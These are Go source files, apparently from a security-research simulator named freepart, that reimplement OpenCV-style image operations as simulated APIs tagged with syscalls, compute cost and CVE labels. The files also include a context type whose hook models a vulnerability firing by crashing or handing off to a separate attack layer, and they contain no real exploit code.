func dpSyscalls(extra ...kernel.Sysno) []kernel.Sysno {
	return append([]kernel.Sysno{kernel.SysBrk}, extra...)
}

// unaryFn transforms one image into another. args carries the API's full
// argument list (args[0] is the input mat).
type unaryFn func(m *object.Mat, data []byte, args []framework.Value) (rows, cols, ch int, out []byte, err error)

// unaryAPI builds a data-processing API over one input mat: resolve the
// mat, check for crafted exploit inputs, charge compute, run fn, and
// materialize the result mat.
func unaryAPI(name string, intensity float64, cves []string, syscalls []kernel.Sysno, fn unaryFn) *framework.API {
	var api *framework.API
	api = &framework.API{
		Name: name, Framework: Name, TrueType: framework.TypeProcessing,
		StaticOps: memOps(),
		Syscalls:  syscalls,
		Intensity: intensity,
		CVEs:      cves,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if err := needArgs(name, args, 1); err != nil {
				return nil, err
			}
			m, data, err := matAndBytes(ctx, args[0])
			if err != nil {
				return nil, err
			}
			if fired, err := ctx.MaybeExploit(api, data); fired {
				return nil, err
			}
			ctx.Charge(len(data), intensity)
			ctx.EmitMemOp()
			rows, cols, ch, out, err := fn(m, data, args)
			if err != nil {
				return nil, err
			}
			v, err := outMat(ctx, rows, cols, ch, out)
			if err != nil {
				return nil, err
			}
			return []framework.Value{v}, nil
		},
	}
	return api
}

// binaryFn combines two images.
type binaryFn func(a, b *object.Mat, da, db []byte, args []framework.Value) (rows, cols, ch int, out []byte, err error)

// binaryAPI builds a data-processing API over two input mats.
func binaryAPI(name string, intensity float64, cves []string, syscalls []kernel.Sysno, fn binaryFn) *framework.API {
	var api *framework.API
	api = &framework.API{
		Name: name, Framework: Name, TrueType: framework.TypeProcessing,
		StaticOps: memOps(),
		Syscalls:  syscalls,
		Intensity: intensity,
		CVEs:      cves,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if err := needArgs(name, args, 2); err != nil {
				return nil, err
			}
			a, da, err := matAndBytes(ctx, args[0])
			if err != nil {
				return nil, err
			}
			b, db, err := matAndBytes(ctx, args[1])
			if err != nil {
				return nil, err
			}
			if fired, err := ctx.MaybeExploit(api, da); fired {
				return nil, err
			}
			if fired, err := ctx.MaybeExploit(api, db); fired {
				return nil, err
			}
			ctx.Charge(len(da)+len(db), intensity)
			ctx.EmitMemOp()
			rows, cols, ch, out, err := fn(a, b, da, db, args)
			if err != nil {
				return nil, err
			}
			v, err := outMat(ctx, rows, cols, ch, out)
			if err != nil {
				return nil, err
			}
			return []framework.Value{v}, nil
		},
	}
	return api
}

// reduceFn computes scalar results from one image.
type reduceFn func(m *object.Mat, data []byte, args []framework.Value) ([]framework.Value, error)

// reduceAPI builds a data-processing API that reduces an image to scalars
// or small tensors (the ctx is threaded through for tensor allocation via
// closures over it; fn receives results builder helpers instead).
func reduceAPI(name string, intensity float64, cves []string, syscalls []kernel.Sysno, fn func(ctx *framework.Ctx, m *object.Mat, data []byte, args []framework.Value) ([]framework.Value, error)) *framework.API {
	var api *framework.API
	api = &framework.API{
		Name: name, Framework: Name, TrueType: framework.TypeProcessing,
		StaticOps: memOps(),
		Syscalls:  syscalls,
		Intensity: intensity,
		CVEs:      cves,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if err := needArgs(name, args, 1); err != nil {
				return nil, err
			}
			m, data, err := matAndBytes(ctx, args[0])
			if err != nil {
				return nil, err
			}
			if fired, err := ctx.MaybeExploit(api, data); fired {
				return nil, err
			}
			ctx.Charge(len(data), intensity)
			ctx.EmitMemOp()
			return fn(ctx, m, data, args)
		},
	}
	return api
}

// grayOf collapses a multi-channel image to single-channel by averaging.
func grayOf(rows, cols, ch int, data []byte) []byte {
	if ch == 1 {
		return append([]byte(nil), data...)
	}
	out := make([]byte, rows*cols)
	for i := 0; i < rows*cols; i++ {
		sum := 0
		for c := 0; c < ch; c++ {
			sum += int(data[i*ch+c])
		}
		out[i] = byte(sum / ch)
	}
	return out
}

// pix reads data[(r*cols+c)*ch+k] with border clamping.
func pix(data []byte, rows, cols, ch, r, c, k int) byte {
	if r < 0 {
		r = 0
	}
	if r >= rows {
		r = rows - 1
	}
	if c < 0 {
		c = 0
	}
	if c >= cols {
		c = cols - 1
	}
	return data[(r*cols+c)*ch+k]
}
