package simcv

import (
	"fmt"

	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/object"
)

// registerGeometry installs geometric transform operations.
func registerGeometry(r *framework.Registry) {
	r.Register(unaryAPI("cv.resize", 2, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			rows, cols, ch := m.Rows(), m.Cols(), m.Channels()
			nr, nc := rows/2, cols/2
			if len(args) > 2 {
				nr, nc = int(args[1].Int), int(args[2].Int)
			}
			if nr <= 0 || nc <= 0 {
				return 0, 0, 0, nil, fmt.Errorf("simcv: resize to %dx%d", nr, nc)
			}
			out := make([]byte, nr*nc*ch)
			for rr := 0; rr < nr; rr++ {
				for cc := 0; cc < nc; cc++ {
					sr := rr * rows / nr
					sc := cc * cols / nc
					for z := 0; z < ch; z++ {
						out[(rr*nc+cc)*ch+z] = data[(sr*cols+sc)*ch+z]
					}
				}
			}
			return nr, nc, ch, out, nil
		}))

	r.Register(unaryAPI("cv.flip", 1, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			rows, cols, ch := m.Rows(), m.Cols(), m.Channels()
			horizontal := true
			if len(args) > 1 {
				horizontal = args[1].Int != 0
			}
			out := make([]byte, len(data))
			for rr := 0; rr < rows; rr++ {
				for cc := 0; cc < cols; cc++ {
					sr, sc := rr, cols-1-cc
					if !horizontal {
						sr, sc = rows-1-rr, cc
					}
					for z := 0; z < ch; z++ {
						out[(rr*cols+cc)*ch+z] = data[(sr*cols+sc)*ch+z]
					}
				}
			}
			return rows, cols, ch, out, nil
		}))

	r.Register(unaryAPI("cv.transpose", 1, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			rows, cols, ch := m.Rows(), m.Cols(), m.Channels()
			out := make([]byte, len(data))
			for rr := 0; rr < rows; rr++ {
				for cc := 0; cc < cols; cc++ {
					for z := 0; z < ch; z++ {
						out[(cc*rows+rr)*ch+z] = data[(rr*cols+cc)*ch+z]
					}
				}
			}
			return cols, rows, ch, out, nil
		}))

	r.Register(unaryAPI("cv.rotate", 1, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			// 90 degrees clockwise.
			rows, cols, ch := m.Rows(), m.Cols(), m.Channels()
			out := make([]byte, len(data))
			for rr := 0; rr < rows; rr++ {
				for cc := 0; cc < cols; cc++ {
					for z := 0; z < ch; z++ {
						out[(cc*rows+(rows-1-rr))*ch+z] = data[(rr*cols+cc)*ch+z]
					}
				}
			}
			return cols, rows, ch, out, nil
		}))

	// warp applies a 3x3 homography held in a tensor argument (inverse
	// mapping with nearest-neighbour sampling).
	warpWith := func(name string, cves []string) *framework.API {
		var api *framework.API
		api = &framework.API{
			Name: name, Framework: Name, TrueType: framework.TypeProcessing,
			StaticOps: memOps(), Syscalls: dpSyscalls(), Intensity: 4, CVEs: cves,
			Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
				if err := needArgs(name, args, 2); err != nil {
					return nil, err
				}
				m, data, err := matAndBytes(ctx, args[0])
				if err != nil {
					return nil, err
				}
				if fired, err := ctx.MaybeExploit(api, data); fired {
					return nil, err
				}
				h, err := ctx.Tensor(args[1])
				if err != nil {
					return nil, err
				}
				if h.Len() < 6 {
					return nil, fmt.Errorf("simcv: %s matrix needs >=6 entries", name)
				}
				hm := make([]float64, 9)
				hm[8] = 1
				for i := 0; i < h.Len() && i < 9; i++ {
					v, err := h.AtFlat(i)
					if err != nil {
						return nil, err
					}
					hm[i] = v
				}
				rows, cols, ch := m.Rows(), m.Cols(), m.Channels()
				ctx.Charge(len(data), 4)
				ctx.EmitMemOp()
				out := make([]byte, len(data))
				for rr := 0; rr < rows; rr++ {
					for cc := 0; cc < cols; cc++ {
						x, y := float64(cc), float64(rr)
						w := hm[6]*x + hm[7]*y + hm[8]
						if w == 0 {
							continue
						}
						sx := int((hm[0]*x + hm[1]*y + hm[2]) / w)
						sy := int((hm[3]*x + hm[4]*y + hm[5]) / w)
						if sx < 0 || sx >= cols || sy < 0 || sy >= rows {
							continue
						}
						for z := 0; z < ch; z++ {
							out[(rr*cols+cc)*ch+z] = data[(sy*cols+sx)*ch+z]
						}
					}
				}
				v, err := outMat(ctx, rows, cols, ch, out)
				if err != nil {
					return nil, err
				}
				return []framework.Value{v}, nil
			},
		}
		return api
	}
	r.Register(warpWith("cv.warpPerspective", []string{CVEWarpRCE}))
	r.Register(warpWith("cv.warpAffine", nil))

	// getPerspectiveTransform: derives a translation+scale homography from
	// two quads given as flat tensors (x0,y0,...,x3,y3). A full DLT solve
	// is overkill for the simulation; the affine fit preserves the
	// data-flow shape and produces a usable matrix.
	transformFrom := func(name string) *framework.API {
		return &framework.API{
			Name: name, Framework: Name, TrueType: framework.TypeProcessing,
			StaticOps: memOps(), Syscalls: dpSyscalls(), Intensity: 1,
			Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
				if err := needArgs(name, args, 2); err != nil {
					return nil, err
				}
				src, err := ctx.Tensor(args[0])
				if err != nil {
					return nil, err
				}
				dst, err := ctx.Tensor(args[1])
				if err != nil {
					return nil, err
				}
				if src.Len() < 4 || dst.Len() < 4 {
					return nil, fmt.Errorf("simcv: %s needs >=2 points per quad", name)
				}
				sx0, _ := src.AtFlat(0)
				sy0, _ := src.AtFlat(1)
				dx0, _ := dst.AtFlat(0)
				dy0, _ := dst.AtFlat(1)
				sx1, _ := src.AtFlat(2)
				dx1, _ := dst.AtFlat(2)
				scale := 1.0
				if dx1 != dx0 {
					scale = (sx1 - sx0) / (dx1 - dx0)
				}
				id, t, err := ctx.NewTensor(3, 3)
				if err != nil {
					return nil, err
				}
				_ = t.Set(scale, 0, 0)
				_ = t.Set(scale, 1, 1)
				_ = t.Set(1, 2, 2)
				_ = t.Set(sx0-dx0*scale, 0, 2)
				_ = t.Set(sy0-dy0*scale, 1, 2)
				ctx.EmitMemOp()
				return []framework.Value{framework.Obj(id)}, nil
			},
		}
	}
	r.Register(transformFrom("cv.getPerspectiveTransform"))
	r.Register(transformFrom("cv.getAffineTransform"))

	r.Register(unaryAPI("cv.copyMakeBorder", 1, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			rows, cols, ch := m.Rows(), m.Cols(), m.Channels()
			b := 2
			if len(args) > 1 && args[1].Int > 0 {
				b = int(args[1].Int)
			}
			nr, nc := rows+2*b, cols+2*b
			out := make([]byte, nr*nc*ch)
			for rr := 0; rr < nr; rr++ {
				for cc := 0; cc < nc; cc++ {
					for z := 0; z < ch; z++ {
						out[(rr*nc+cc)*ch+z] = pix(data, rows, cols, ch, rr-b, cc-b, z)
					}
				}
			}
			return nr, nc, ch, out, nil
		}))

	r.Register(unaryAPI("cv.getRectSubPix", 1, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			// Crop: args are (mat, x, y, w, h).
			rows, cols, ch := m.Rows(), m.Cols(), m.Channels()
			x, y, w, h := 0, 0, cols/2, rows/2
			if len(args) > 4 {
				x, y, w, h = int(args[1].Int), int(args[2].Int), int(args[3].Int), int(args[4].Int)
			}
			if w <= 0 || h <= 0 || x < 0 || y < 0 || x+w > cols || y+h > rows {
				return 0, 0, 0, nil, fmt.Errorf("simcv: crop %d,%d %dx%d out of %dx%d", x, y, w, h, cols, rows)
			}
			out := make([]byte, w*h*ch)
			for rr := 0; rr < h; rr++ {
				for cc := 0; cc < w; cc++ {
					for z := 0; z < ch; z++ {
						out[(rr*w+cc)*ch+z] = data[((y+rr)*cols+(x+cc))*ch+z]
					}
				}
			}
			return h, w, ch, out, nil
		}))

	r.Register(unaryAPI("cv.undistort", 4, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			// Mild barrel-correction: radial remap toward the centre.
			rows, cols, ch := m.Rows(), m.Cols(), m.Channels()
			out := make([]byte, len(data))
			cr, cc2 := float64(rows)/2, float64(cols)/2
			for rr := 0; rr < rows; rr++ {
				for cc := 0; cc < cols; cc++ {
					dy, dx := float64(rr)-cr, float64(cc)-cc2
					k := 1 - 0.05*(dx*dx+dy*dy)/(cr*cr+cc2*cc2)
					sr, sc := int(cr+dy*k), int(cc2+dx*k)
					for z := 0; z < ch; z++ {
						out[(rr*cols+cc)*ch+z] = pix(data, rows, cols, ch, sr, sc, z)
					}
				}
			}
			return rows, cols, ch, out, nil
		}))

	r.Register(&framework.API{
		Name: "cv.remap", Framework: Name, TrueType: framework.TypeProcessing,
		StaticOps: memOps(), Syscalls: dpSyscalls(), Intensity: 4,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if err := needArgs("cv.remap", args, 2); err != nil {
				return nil, err
			}
			m, data, err := matAndBytes(ctx, args[0])
			if err != nil {
				return nil, err
			}
			flow, err := ctx.Tensor(args[1])
			if err != nil {
				return nil, err
			}
			sh := flow.Shape()
			rows, cols, ch := m.Rows(), m.Cols(), m.Channels()
			if len(sh) != 3 || sh[0] != rows || sh[1] != cols || sh[2] != 2 {
				return nil, fmt.Errorf("simcv: remap flow shape %v for %dx%d image", sh, rows, cols)
			}
			ctx.Charge(len(data), 4)
			ctx.EmitMemOp()
			out := make([]byte, len(data))
			for rr := 0; rr < rows; rr++ {
				for cc := 0; cc < cols; cc++ {
					fx, _ := flow.At(rr, cc, 0)
					fy, _ := flow.At(rr, cc, 1)
					sr, sc := rr+int(fy), cc+int(fx)
					for z := 0; z < ch; z++ {
						out[(rr*cols+cc)*ch+z] = pix(data, rows, cols, ch, sr, sc, z)
					}
				}
			}
			v, err := outMat(ctx, rows, cols, ch, out)
			if err != nil {
				return nil, err
			}
			return []framework.Value{v}, nil
		},
	})
}
