package simcv

import (
	"math"

	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/object"
)

// convolve3 applies a 3x3 kernel (with divisor) per channel, clamping at
// borders — the shared core of the small-kernel filters.
func convolve3(rows, cols, ch int, data []byte, k [9]int, div int) []byte {
	if div == 0 {
		div = 1
	}
	out := make([]byte, len(data))
	for r := 0; r < rows; r++ {
		for c := 0; c < cols; c++ {
			for z := 0; z < ch; z++ {
				sum := 0
				ki := 0
				for dr := -1; dr <= 1; dr++ {
					for dc := -1; dc <= 1; dc++ {
						sum += k[ki] * int(pix(data, rows, cols, ch, r+dr, c+dc, z))
						ki++
					}
				}
				out[(r*cols+c)*ch+z] = clampByte(sum / div)
			}
		}
	}
	return out
}

// morph applies a 3x3 min (erode) or max (dilate) filter.
func morph(rows, cols, ch int, data []byte, dilate bool) []byte {
	out := make([]byte, len(data))
	for r := 0; r < rows; r++ {
		for c := 0; c < cols; c++ {
			for z := 0; z < ch; z++ {
				var best int
				if dilate {
					best = 0
				} else {
					best = 255
				}
				for dr := -1; dr <= 1; dr++ {
					for dc := -1; dc <= 1; dc++ {
						v := int(pix(data, rows, cols, ch, r+dr, c+dc, z))
						if dilate && v > best || !dilate && v < best {
							best = v
						}
					}
				}
				out[(r*cols+c)*ch+z] = byte(best)
			}
		}
	}
	return out
}

// registerFilter installs the neighbourhood (convolution/morphology)
// operations.
func registerFilter(r *framework.Registry) {
	r.Register(unaryAPI("cv.blur", 9, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			k := [9]int{1, 1, 1, 1, 1, 1, 1, 1, 1}
			return m.Rows(), m.Cols(), m.Channels(), convolve3(m.Rows(), m.Cols(), m.Channels(), data, k, 9), nil
		}))

	r.Register(unaryAPI("cv.boxFilter", 9, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			k := [9]int{1, 1, 1, 1, 1, 1, 1, 1, 1}
			return m.Rows(), m.Cols(), m.Channels(), convolve3(m.Rows(), m.Cols(), m.Channels(), data, k, 9), nil
		}))

	r.Register(unaryAPI("cv.GaussianBlur", 9, nil, dpSyscalls(kernel.SysGettimeofday),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			k := [9]int{1, 2, 1, 2, 4, 2, 1, 2, 1}
			return m.Rows(), m.Cols(), m.Channels(), convolve3(m.Rows(), m.Cols(), m.Channels(), data, k, 16), nil
		}))

	r.Register(unaryAPI("cv.medianBlur", 12, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			rows, cols, ch := m.Rows(), m.Cols(), m.Channels()
			out := make([]byte, len(data))
			var win [9]byte
			for r := 0; r < rows; r++ {
				for c := 0; c < cols; c++ {
					for z := 0; z < ch; z++ {
						i := 0
						for dr := -1; dr <= 1; dr++ {
							for dc := -1; dc <= 1; dc++ {
								win[i] = pix(data, rows, cols, ch, r+dr, c+dc, z)
								i++
							}
						}
						// insertion sort of 9 elements
						for a := 1; a < 9; a++ {
							v := win[a]
							b := a - 1
							for b >= 0 && win[b] > v {
								win[b+1] = win[b]
								b--
							}
							win[b+1] = v
						}
						out[(r*cols+c)*ch+z] = win[4]
					}
				}
			}
			return rows, cols, ch, out, nil
		}))

	r.Register(unaryAPI("cv.bilateralFilter", 15, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			rows, cols, ch := m.Rows(), m.Cols(), m.Channels()
			out := make([]byte, len(data))
			for r := 0; r < rows; r++ {
				for c := 0; c < cols; c++ {
					for z := 0; z < ch; z++ {
						center := int(pix(data, rows, cols, ch, r, c, z))
						sum, wsum := 0.0, 0.0
						for dr := -1; dr <= 1; dr++ {
							for dc := -1; dc <= 1; dc++ {
								v := int(pix(data, rows, cols, ch, r+dr, c+dc, z))
								d := float64(v - center)
								w := math.Exp(-d * d / 512)
								sum += w * float64(v)
								wsum += w
							}
						}
						out[(r*cols+c)*ch+z] = clampByte(int(sum / wsum))
					}
				}
			}
			return rows, cols, ch, out, nil
		}))

	r.Register(unaryAPI("cv.erode", 9, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			return m.Rows(), m.Cols(), m.Channels(), morph(m.Rows(), m.Cols(), m.Channels(), data, false), nil
		}))

	r.Register(unaryAPI("cv.dilate", 9, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			return m.Rows(), m.Cols(), m.Channels(), morph(m.Rows(), m.Cols(), m.Channels(), data, true), nil
		}))

	r.Register(unaryAPI("cv.morphologyEx", 18, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			rows, cols, ch := m.Rows(), m.Cols(), m.Channels()
			op := "open"
			if len(args) > 1 {
				op = args[1].Str
			}
			var out []byte
			switch op {
			case "close":
				out = morph(rows, cols, ch, morph(rows, cols, ch, data, true), false)
			case "gradient":
				d := morph(rows, cols, ch, data, true)
				e := morph(rows, cols, ch, data, false)
				out = make([]byte, len(data))
				for i := range out {
					out[i] = byte(int(d[i]) - int(e[i]))
				}
			default: // open
				out = morph(rows, cols, ch, morph(rows, cols, ch, data, false), true)
			}
			return rows, cols, ch, out, nil
		}))

	sobelK := [9]int{-1, 0, 1, -2, 0, 2, -1, 0, 1}
	r.Register(unaryAPI("cv.Sobel", 9, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			return m.Rows(), m.Cols(), m.Channels(), convolve3(m.Rows(), m.Cols(), m.Channels(), data, sobelK, 1), nil
		}))

	scharrK := [9]int{-3, 0, 3, -10, 0, 10, -3, 0, 3}
	r.Register(unaryAPI("cv.Scharr", 9, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			return m.Rows(), m.Cols(), m.Channels(), convolve3(m.Rows(), m.Cols(), m.Channels(), data, scharrK, 4), nil
		}))

	lapK := [9]int{0, 1, 0, 1, -4, 1, 0, 1, 0}
	r.Register(unaryAPI("cv.Laplacian", 9, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			return m.Rows(), m.Cols(), m.Channels(), convolve3(m.Rows(), m.Cols(), m.Channels(), data, lapK, 1), nil
		}))

	r.Register(unaryAPI("cv.Canny", 20, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			rows, cols, ch := m.Rows(), m.Cols(), m.Channels()
			g := grayOf(rows, cols, ch, data)
			lo := 50
			if len(args) > 1 {
				lo = int(args[1].Int)
			}
			out := make([]byte, rows*cols)
			for r := 0; r < rows; r++ {
				for c := 0; c < cols; c++ {
					gx := int(pix(g, rows, cols, 1, r, c+1, 0)) - int(pix(g, rows, cols, 1, r, c-1, 0))
					gy := int(pix(g, rows, cols, 1, r+1, c, 0)) - int(pix(g, rows, cols, 1, r-1, c, 0))
					mag := int(math.Hypot(float64(gx), float64(gy)))
					if mag > lo {
						out[r*cols+c] = 255
					}
				}
			}
			return rows, cols, 1, out, nil
		}))

	r.Register(&framework.API{
		Name: "cv.filter2D", Framework: Name, TrueType: framework.TypeProcessing,
		StaticOps: memOps(), Syscalls: dpSyscalls(), Intensity: 9,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if err := needArgs("cv.filter2D", args, 2); err != nil {
				return nil, err
			}
			m, data, err := matAndBytes(ctx, args[0])
			if err != nil {
				return nil, err
			}
			kt, err := ctx.Tensor(args[1])
			if err != nil {
				return nil, err
			}
			if kt.Len() != 9 {
				return nil, needArgs("cv.filter2D kernel must be 3x3", args, 99)
			}
			var k [9]int
			div := 0
			for i := range k {
				v, err := kt.AtFlat(i)
				if err != nil {
					return nil, err
				}
				k[i] = int(v)
				div += int(v)
			}
			if div == 0 {
				div = 1
			}
			ctx.Charge(len(data), 9)
			ctx.EmitMemOp()
			out := convolve3(m.Rows(), m.Cols(), m.Channels(), data, k, div)
			v, err := outMat(ctx, m.Rows(), m.Cols(), m.Channels(), out)
			if err != nil {
				return nil, err
			}
			return []framework.Value{v}, nil
		},
	})

	r.Register(unaryAPI("cv.sepFilter2D", 6, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			// Separable box: horizontal then vertical 1x3 means.
			rows, cols, ch := m.Rows(), m.Cols(), m.Channels()
			tmp := make([]byte, len(data))
			for r := 0; r < rows; r++ {
				for c := 0; c < cols; c++ {
					for z := 0; z < ch; z++ {
						s := int(pix(data, rows, cols, ch, r, c-1, z)) + int(pix(data, rows, cols, ch, r, c, z)) + int(pix(data, rows, cols, ch, r, c+1, z))
						tmp[(r*cols+c)*ch+z] = byte(s / 3)
					}
				}
			}
			out := make([]byte, len(data))
			for r := 0; r < rows; r++ {
				for c := 0; c < cols; c++ {
					for z := 0; z < ch; z++ {
						s := int(pix(tmp, rows, cols, ch, r-1, c, z)) + int(pix(tmp, rows, cols, ch, r, c, z)) + int(pix(tmp, rows, cols, ch, r+1, c, z))
						out[(r*cols+c)*ch+z] = byte(s / 3)
					}
				}
			}
			return rows, cols, ch, out, nil
		}))

	r.Register(unaryAPI("cv.pyrDown", 4, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			rows, cols, ch := m.Rows(), m.Cols(), m.Channels()
			nr, nc := (rows+1)/2, (cols+1)/2
			out := make([]byte, nr*nc*ch)
			for r := 0; r < nr; r++ {
				for c := 0; c < nc; c++ {
					for z := 0; z < ch; z++ {
						s := int(pix(data, rows, cols, ch, 2*r, 2*c, z)) +
							int(pix(data, rows, cols, ch, 2*r+1, 2*c, z)) +
							int(pix(data, rows, cols, ch, 2*r, 2*c+1, z)) +
							int(pix(data, rows, cols, ch, 2*r+1, 2*c+1, z))
						out[(r*nc+c)*ch+z] = byte(s / 4)
					}
				}
			}
			return nr, nc, ch, out, nil
		}))

	r.Register(unaryAPI("cv.pyrUp", 4, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			rows, cols, ch := m.Rows(), m.Cols(), m.Channels()
			nr, nc := rows*2, cols*2
			out := make([]byte, nr*nc*ch)
			for r := 0; r < nr; r++ {
				for c := 0; c < nc; c++ {
					for z := 0; z < ch; z++ {
						out[(r*nc+c)*ch+z] = pix(data, rows, cols, ch, r/2, c/2, z)
					}
				}
			}
			return nr, nc, ch, out, nil
		}))

	r.Register(reduceAPI("cv.getStructuringElement", 1, nil, dpSyscalls(),
		func(ctx *framework.Ctx, m *object.Mat, data []byte, args []framework.Value) ([]framework.Value, error) {
			// Returns a 3x3 all-ones kernel mat; the input mat only sets
			// the element type in real OpenCV, mirrored loosely here.
			out := []byte{1, 1, 1, 1, 1, 1, 1, 1, 1}
			v, err := outMat(ctx, 3, 3, 1, out)
			if err != nil {
				return nil, err
			}
			return []framework.Value{v}, nil
		}))

	r.Register(unaryAPI("cv.distanceTransform", 16, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			// Two-pass chamfer distance on a binary image.
			rows, cols, ch := m.Rows(), m.Cols(), m.Channels()
			g := grayOf(rows, cols, ch, data)
			const inf = 1 << 20
			d := make([]int, rows*cols)
			for i, v := range g {
				if v > 0 {
					d[i] = 0
				} else {
					d[i] = inf
				}
			}
			at := func(r, c int) int {
				if r < 0 || r >= rows || c < 0 || c >= cols {
					return inf
				}
				return d[r*cols+c]
			}
			for r := 0; r < rows; r++ {
				for c := 0; c < cols; c++ {
					v := d[r*cols+c]
					if w := at(r-1, c) + 1; w < v {
						v = w
					}
					if w := at(r, c-1) + 1; w < v {
						v = w
					}
					d[r*cols+c] = v
				}
			}
			for r := rows - 1; r >= 0; r-- {
				for c := cols - 1; c >= 0; c-- {
					v := d[r*cols+c]
					if w := at(r+1, c) + 1; w < v {
						v = w
					}
					if w := at(r, c+1) + 1; w < v {
						v = w
					}
					d[r*cols+c] = v
				}
			}
			out := make([]byte, rows*cols)
			for i, v := range d {
				out[i] = clampByte(v)
			}
			return rows, cols, 1, out, nil
		}))

	r.Register(unaryAPI("cv.integral", 2, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			// Integral image, scaled down to bytes (mod 256 running sum is
			// not useful, so normalize by total).
			rows, cols, ch := m.Rows(), m.Cols(), m.Channels()
			g := grayOf(rows, cols, ch, data)
			sum := make([]int, rows*cols)
			for r := 0; r < rows; r++ {
				rowSum := 0
				for c := 0; c < cols; c++ {
					rowSum += int(g[r*cols+c])
					up := 0
					if r > 0 {
						up = sum[(r-1)*cols+c]
					}
					sum[r*cols+c] = rowSum + up
				}
			}
			total := sum[rows*cols-1]
			if total == 0 {
				total = 1
			}
			out := make([]byte, rows*cols)
			for i, v := range sum {
				out[i] = byte(v * 255 / total)
			}
			return rows, cols, 1, out, nil
		}))

	r.Register(binaryAPI("cv.matchTemplate", 25, nil, dpSyscalls(),
		func(img, tpl *object.Mat, di, dt []byte, args []framework.Value) (int, int, int, []byte, error) {
			// SAD template matching producing a response map.
			ir, ic := img.Rows(), img.Cols()
			tr, tc := tpl.Rows(), tpl.Cols()
			gi := grayOf(ir, ic, img.Channels(), di)
			gt := grayOf(tr, tc, tpl.Channels(), dt)
			if tr > ir || tc > ic {
				return 0, 0, 0, nil, errTemplateBig
			}
			orr, occ := ir-tr+1, ic-tc+1
			out := make([]byte, orr*occ)
			norm := tr * tc * 255
			for r := 0; r < orr; r++ {
				for c := 0; c < occ; c++ {
					sad := 0
					for y := 0; y < tr; y++ {
						for x := 0; x < tc; x++ {
							d := int(gi[(r+y)*ic+c+x]) - int(gt[y*tc+x])
							if d < 0 {
								d = -d
							}
							sad += d
						}
					}
					out[r*occ+c] = byte(255 - sad*255/norm)
				}
			}
			return orr, occ, 1, out, nil
		}))
}

// errTemplateBig reports a template larger than the search image.
var errTemplateBig = errorString("simcv: template larger than image")

// errorString is a trivial constant-style error.
type errorString string

func (e errorString) Error() string { return string(e) }
