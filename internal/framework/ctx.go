package framework

import (
	"bytes"
	"errors"
	"fmt"

	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/object"
)

// Tracer observes data-flow operations as APIs execute. The dynamic
// analyzer (internal/trace) implements it; a nil tracer disables recording.
type Tracer interface {
	// RecordOp is called for every storage-level transfer the running API
	// actually performs.
	RecordOp(api string, op Op)
}

// ExploitFunc is invoked when a vulnerability triggers inside an API. The
// attack layer installs payload behaviours; the default (nil) handler
// crashes the hosting process, modelling an unhandled memory-corruption
// fault.
type ExploitFunc func(ctx *Ctx, cve string, payload []byte) error

// ErrExploited marks errors produced by a triggered vulnerability.
var ErrExploited = errors.New("framework: vulnerability exploited")

// Ctx is the environment an API implementation executes in: the simulated
// kernel, the hosting process (whose address space holds all allocations),
// the process-local object table, and observation/exploit hooks.
type Ctx struct {
	K     *kernel.Kernel
	P     *kernel.Process
	Table *object.Table

	// OnExploit handles triggered vulnerabilities; nil = crash the process.
	OnExploit ExploitFunc
	// Tracer records dynamic data-flow operations; nil = off.
	Tracer Tracer

	// api is the name of the currently executing API (set by Exec).
	api string
}

// NewCtx builds a context for running APIs inside process p.
func NewCtx(k *kernel.Kernel, p *kernel.Process) *Ctx {
	return &Ctx{K: k, P: p, Table: object.NewTable(uint32(p.PID()))}
}

